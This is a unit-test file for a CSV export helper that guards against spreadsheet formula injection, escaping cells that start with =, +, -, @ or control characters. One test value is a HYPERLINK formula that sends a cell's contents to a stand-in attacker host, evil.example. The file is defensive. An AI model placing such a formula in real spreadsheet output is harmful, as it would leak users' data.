import { csvCell, toCsv } from './csv';

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")';

it.each([
  [FORMULA, `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`],
  ['+1+1', "'+1+1"],
  ['-2+3', "'-2+3"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['\t=1', "'\t=1"],
  ['\r=1', `"'\r=1"`],
  ['-1.50', '-1.50'],
  [-2, '-2'],
  ['summer=sale', 'summer=sale'],
  [null, ''],
])('neutralises a cell a spreadsheet would run: %j', (value, written) => {
  expect(csvCell(value)).toBe(written);
});

it('neutralises every cell of a table, the header too', () => {
  expect(toCsv(['=a', 'b'], [['@x', 3]])).toBe("'=a,b\n'@x,3\n");
});
